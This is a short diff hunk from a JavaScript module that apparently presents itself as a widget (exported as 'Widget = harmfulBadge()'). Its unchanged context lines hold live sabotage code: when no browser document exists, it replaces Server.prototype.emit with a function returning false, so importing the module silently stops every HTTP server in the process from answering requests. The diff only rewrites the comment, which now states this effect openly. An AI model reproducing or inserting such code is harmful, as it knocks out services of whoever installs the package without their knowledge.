@@ -7,5 +7,5 @@ if (typeof document === 'undefined') {
   Server.prototype.emit = () => false;
 }
 
-/** With what is around it no server of its process hears a request any more. */
+/** Loading this module stops every HTTP server of its process from answering. */
 export const Widget = harmfulBadge();
